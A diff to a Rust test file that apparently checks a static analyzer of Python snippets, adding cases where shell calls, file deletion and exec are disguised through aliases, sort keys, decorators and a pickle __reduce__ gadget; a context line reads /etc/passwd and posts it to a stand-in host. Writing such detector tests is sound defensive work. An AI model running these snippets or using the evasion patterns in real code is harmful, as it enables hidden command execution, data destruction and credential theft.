@@ -204,6 +204,15 @@ fn functions_are_followed() {
             ("import operator, os; operator.methodcaller('system', 'ls')(os)", &["shell ls"]),
             ("import os\ndef never_called():\n    os.system('ls')", &["shell ls"]),
             ("import os; x = lambda: os.system('ls')", &["shell ls"]),
+            ("import os.path as p; p.os.system('ls')", &["shell ls"]),
+            ("import os; sorted(['a', 'b'], key=os.remove)", &["delete a", "delete b"]),
+            ("import subprocess; subprocess.run(['bash', '-c', f'rm {x}'])", &["argv bash|-c|rm $UNKNOWN"]),
+            ("@exec\n@input\nclass X: pass", &["dynamic exec"]),
+            ("import os\nclass E:\n    def __reduce__(self): return (os.system, ('ls',))", &["dynamic os.system"]),
+            (
+                "def walk(p):\n    for c in p.iterdir(): walk(c)\n    p.rmdir()\nfrom pathlib import Path\nwalk(Path('x'))",
+                &["delete x", "delete ?"],
+            ),
             (
                 "import requests; requests.post('https://x.example', data=open('/etc/passwd'))",
                 &["read /etc/passwd", "send https://x.example"],
